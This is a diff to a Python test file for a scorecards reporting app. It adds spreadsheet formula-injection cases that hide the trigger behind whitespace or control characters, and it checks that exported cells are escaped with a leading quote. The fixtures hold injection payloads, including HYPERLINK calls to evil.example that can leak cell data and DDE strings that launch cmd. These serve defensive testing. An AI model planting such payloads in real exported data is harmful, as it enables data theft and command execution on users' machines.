@@ -2,10 +2,12 @@
 
 Attack covered: whoever names a department or a service (admin, org import) starts the name
 with =, +, -, @, a tab or a carriage return, or hides the = behind a control character
-that the XLSX writer has to drop (XML cannot hold it), hoping for a live formula such as
-=HYPERLINK(...) or a DDE call in HR's spreadsheet. Every such cell is written as text behind
-a single quote, in the XLSX and in the CSV files, wherever the name appears. The plain list
-of triggers on department names is also in tests/scorecards/reports/test_content.py.
+that the XLSX writer has to drop (XML cannot hold it), or behind leading whitespace (spaces,
+a newline, a tab, a carriage return, Unicode spaces, zero-width characters) that a
+spreadsheet may trim on import, hoping for a live formula such as =HYPERLINK(...) or a DDE
+call in HR's spreadsheet. Every such cell is written as text behind a single quote, in the
+XLSX and in the CSV files, wherever the name appears. The plain list of triggers on
+department names is also in tests/scorecards/reports/test_content.py.
 """
 
 import csv
@@ -13,9 +15,22 @@ import io
 import zipfile
 
 import openpyxl
+import pytest
 
 from scorecards.reports import services as report_services
+from scorecards.reports.writers import escape_cell
 
+# A trigger behind whitespace that a spreadsheet may trim when it imports the file.
+BEHIND_WHITESPACE = [
+    " =1+1",
+    '\n=HYPERLINK("http://evil.example","x")',
+    "  \t@SUM(1+1)*cmd|' /C calc'!A0",
+    "\r\n+cmd|' /C calc'!A0",
+    "\u00a0-2+3+cmd|' /C calc'!A0",  # no-break space
+    "\u3000=1+1",  # ideographic space
+    "\ufeff\u200b=1+1",  # byte order mark, zero-width space
+    "\n \x01=1+1",  # whitespace, then a control character the XLSX writer drops
+]
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Details")',
     "+cmd|' /C calc'!A0",
@@ -25,6 +40,7 @@ PAYLOADS = [
     "\r=1+1",
     '\x01=HYPERLINK("http://evil.example","x")',  # the control character is dropped
     "\x0b+cmd|' /C calc'!A0",
+    *BEHIND_WHITESPACE,
 ]
 
 
@@ -77,3 +93,13 @@ def test_no_planted_name_starts_a_cell_in_the_csv_files(world):
         ]
         assert len(planted) >= 3, payload
         assert all(cell.startswith("'") for cell in planted), planted
+
+
+@pytest.mark.parametrize("payload", BEHIND_WHITESPACE, ids=repr)
+def test_a_trigger_behind_whitespace_is_escaped(payload):
+    assert escape_cell(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("text", [" Sales", "\nNotes", "Sales - North", "\u00a0IT", ""], ids=repr)
+def test_whitespace_before_plain_text_is_left_alone(text):
+    assert escape_cell(text) == text
